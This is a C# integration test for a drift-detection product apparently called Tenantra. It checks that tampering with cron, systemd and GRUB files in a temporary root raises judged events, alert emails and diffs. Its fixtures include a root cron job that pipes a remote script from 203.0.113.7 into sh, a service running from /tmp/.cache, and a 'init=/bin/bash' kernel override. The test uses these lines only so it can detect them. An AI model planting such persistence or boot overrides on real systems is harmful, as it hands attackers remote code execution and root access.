using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Tenantra.Data;
using Tenantra.Server.IntegrationTests.Agents;
using Tenantra.Server.IntegrationTests.Notifications;

namespace Tenantra.Server.IntegrationTests.Integrity;

/// <summary>
/// The real agent collects a system root over real HTTP; the test tampers with that root (a cron
/// file, a systemd unit, a GRUB line) and checks the events, their severities, the email a real
/// SMTP server received, the diff, approval, reverting and a reinstalled agent.
/// </summary>
public sealed class DriftEndToEndTests(TestReceivers receivers) : IClassFixture<TestReceivers>, IDisposable
{
    private readonly string _directory = Directory.CreateTempSubdirectory("tenantra-drift-").FullName;

    private string Root => Path.Combine(_directory, "root");

    public void Dispose() => Directory.Delete(_directory, recursive: true);

    private void Write(string path, string text)
    {
        var full = Path.Combine(Root, path.TrimStart('/'));
        Directory.CreateDirectory(Path.GetDirectoryName(full)!);
        File.WriteAllText(full, text);
    }

    private void BuildCleanRoot()
    {
        Write("/etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
        Write("/etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system || /usr/lib/e2fsprogs/e2scrub_all_cron\n");
        Write("/etc/systemd/system/web.service", "[Unit]\nDescription=Web\n\n[Service]\nExecStart=/usr/bin/web --port 8080\n\n[Install]\nWantedBy=multi-user.target\n");
        Write("/etc/default/grub", "GRUB_DEFAULT=0\nGRUB_TIMEOUT=5\nGRUB_CMDLINE_LINUX_DEFAULT=\"quiet\"\nGRUB_CMDLINE_LINUX=\"\"\n");
        Write("/boot/grub/grub.cfg", "set default=0\nmenuentry 'Debian' { linux /vmlinuz root=/dev/sda1 ro quiet }\n");
    }

    private void Tamper()
    {
        Write("/etc/cron.d/sysupdate", "*/5 * * * * root curl -fsSL http://203.0.113.7/u.sh | sh\n");
        Write("/etc/systemd/system/dbus-helper.service", "[Unit]\nDescription=D-Bus helper\n\n[Service]\nExecStart=/tmp/.cache/dbus-helper --daemon\n\n[Install]\nWantedBy=multi-user.target\n");
        Write("/etc/default/grub", "GRUB_DEFAULT=0\nGRUB_TIMEOUT=5\nGRUB_CMDLINE_LINUX_DEFAULT=\"quiet init=/bin/bash\"\nGRUB_CMDLINE_LINUX=\"\"\n");
    }

    private static async Task RunOnceAsync(RealAgent agent, NotificationHarness harness)
    {
        var run = await agent.RunOnceAsync();
        Assert.True(run.ExitCode == 0, run.Output);
        await harness.SettleAsync();
    }

    private static async Task<List<JsonElement>> EventsAsync(HttpClient client, Guid tenant, string query = "") =>
        [.. (await client.GetAsync($"/api/v1/tenants/{tenant}/integrity/events?pageSize=200{query}").ReadAsync(HttpStatusCode.OK)).GetProperty("items").EnumerateArray()];

    [Fact]
    public async Task Tampering_with_cron_systemd_and_grub_raises_judged_events_and_an_email_and_approval_and_reverting_settle_them()
    {
        await receivers.ResetAsync();
        await using var harness = await NotificationHarness.StartAsync(receivers, listenOnLoopback: true);
        var (tenant, admin, client) = await harness.TenantAsync("Drift Clinic");
        BuildCleanRoot();
        var agent = new RealAgent(Path.Combine(_directory, "agent"));
        var enrolled = await agent.EnrollAsync(harness.App.ListeningAddress, await RealAgentTests.EnrollmentTokenAsync(harness.App, tenant));
        Assert.True(enrolled.ExitCode == 0, enrolled.Output);
        agent.CollectUnder(Root);

        // First snapshots become the baselines, and raise nothing.
        await RunOnceAsync(agent, harness);
        var asset = await harness.App.InTenantAsync(tenant, s => s.GetRequiredService<TenantraDbContext>().Assets.SingleAsync());
        var baselines = (await client.GetAsync($"/api/v1/tenants/{tenant}/assets/{asset.Id}/baselines").ReadAsync(HttpStatusCode.OK)).EnumerateArray().ToList();
        Assert.Equal(["boot", "processes", "scheduled", "services"], baselines.Select(b => b.GetProperty("category").GetString()).Order(StringComparer.Ordinal));
        Assert.All(baselines, b => Assert.Equal("firstSnapshot", b.GetProperty("origin").GetString()));
        Assert.Empty(await EventsAsync(client, tenant));

        Tamper();
        await RunOnceAsync(agent, harness);

        var events = (await EventsAsync(client, tenant)).ToDictionary(e => e.GetProperty("entryKey").GetString()!);
        Assert.Equal(4, events.Count);
        var cron = events.Single(e => e.Key.StartsWith("/etc/cron.d/sysupdate:", StringComparison.Ordinal)).Value;
        AssertEvent(cron, "scheduled", "cron-entry", "added", "critical", "download-into-shell");
        AssertEvent(events["dbus-helper.service"], "services", "systemd-unit", "added", "high", "user-writable-path-linux");
        AssertEvent(events["GRUB_CMDLINE_LINUX_DEFAULT"], "boot", "grub-setting", "modified", "critical", "kernel-init-override");
        // The file itself changed too (its hash): boot chain drift, medium, and no email.
        AssertEvent(events["/etc/default/grub"], "boot", "boot-file", "modified", "medium", "boot-chain-changed");

        // High and critical drift reached the admin's mailbox: one message per asset and category in the throttle window.
        var mails = await TestReceivers.UntilAsync(receivers.MailsAsync, m => m.Count >= 3, seconds: 15);
        Assert.All(mails, m => Assert.Equal(admin.Email, m.To.Single()));
        Assert.Equal(
            [
                $"[Critical] Drift on Drift Clinic: Command downloads into a shell or decodes base64: {cron.GetProperty("entryKey").GetString()} on {asset.Hostname}",
                $"[Critical] Drift on Drift Clinic: Kernel command line gained init= or a similar override: GRUB_CMDLINE_LINUX_DEFAULT on {asset.Hostname}",
                $"[High] Drift on Drift Clinic: Service, timer or cron job running from a user-writable folder: dbus-helper.service on {asset.Hostname}",
            ],
            mails.Select(m => m.Subject).Order(StringComparer.Ordinal));

        // The diff shows the GRUB line before and after.
        var diff = await client.GetAsync($"/api/v1/tenants/{tenant}/assets/{asset.Id}/diff/boot").ReadAsync(HttpStatusCode.OK);
        var grub = diff.GetProperty("entries").GetProperty("items").EnumerateArray().Single(e => e.GetProperty("kind").GetString() == "grub-setting");
        Assert.Equal("modified", grub.GetProperty("status").GetString());
        var field = Assert.Single(grub.GetProperty("fields").EnumerateArray());
        Assert.Equal(("value", "quiet", "quiet init=/bin/bash"), (field.GetProperty("name").GetString(), field.GetProperty("before").GetString(), field.GetProperty("after").GetString()));

        // Approving the unit folds it into the baseline; removing the cron file resolves its event as reverted.
        var unitId = events["dbus-helper.service"].GetProperty("id").GetGuid();
        var approved = await client.PostAsJsonAsync($"/api/v1/tenants/{tenant}/integrity/events/{unitId}/approve", new { comment = "Our D-Bus helper, moved to /opt next sprint." }).ReadAsync(HttpStatusCode.OK);
        Assert.Equal("approved", approved.GetProperty("event").GetProperty("status").GetString());
        File.Delete(Path.Combine(Root, "etc/cron.d/sysupdate"));
        await RunOnceAsync(agent, harness);

        var after = (await EventsAsync(client, tenant)).ToDictionary(e => e.GetProperty("entryKey").GetString()!);
        Assert.Equal(4, after.Count);
        Assert.Equal("approved", after["dbus-helper.service"].GetProperty("status").GetString());
        Assert.Equal(("resolved", "reverted"), (after[cron.GetProperty("entryKey").GetString()!].GetProperty("status").GetString(), after[cron.GetProperty("entryKey").GetString()!].GetProperty("resolution").GetString()));
        Assert.Equal("open", after["GRUB_CMDLINE_LINUX_DEFAULT"].GetProperty("status").GetString());
        var services = (await client.GetAsync($"/api/v1/tenants/{tenant}/assets/{asset.Id}/baselines").ReadAsync(HttpStatusCode.OK)).EnumerateArray().Single(b => b.GetProperty("category").GetString() == "services");
        Assert.Equal(("approved", 2), (services.GetProperty("origin").GetString(), services.GetProperty("revision").GetInt32()));
        var audit = await client.GetAsync($"/api/v1/tenants/{tenant}/audit-records?action=integrity-baseline.drift-approved").ReadAsync(HttpStatusCode.OK);
        Assert.Equal(1, audit.GetProperty("total").GetInt32());

        // A reinstalled agent (new key and configuration, same machine) is the same asset: its baselines stay, nothing new is raised.
        var reinstalled = new RealAgent(Path.Combine(_directory, "reinstalled"));
        Assert.Equal(0, (await reinstalled.EnrollAsync(harness.App.ListeningAddress, await RealAgentTests.EnrollmentTokenAsync(harness.App, tenant))).ExitCode);
        reinstalled.CollectUnder(Root);
        await RunOnceAsync(reinstalled, harness);
        Assert.Equal(1, await harness.App.InTenantAsync(tenant, s => s.GetRequiredService<TenantraDbContext>().Assets.CountAsync()));
        Assert.Equal(4, (await EventsAsync(client, tenant)).Count);
        Assert.Equal(4, await harness.App.InTenantAsync(tenant, s => s.GetRequiredService<TenantraDbContext>().IntegrityBaselines.CountAsync()));
    }

    private static void AssertEvent(JsonElement e, string category, string kind, string change, string severity, string rule)
    {
        Assert.Equal(
            (category, kind, change, severity, "open", rule),
            (e.GetProperty("category").GetString(), e.GetProperty("kind").GetString(), e.GetProperty("change").GetString(), e.GetProperty("severity").GetString(),
                e.GetProperty("status").GetString(), e.GetProperty("ruleKeys")[0].GetString()));
    }
}
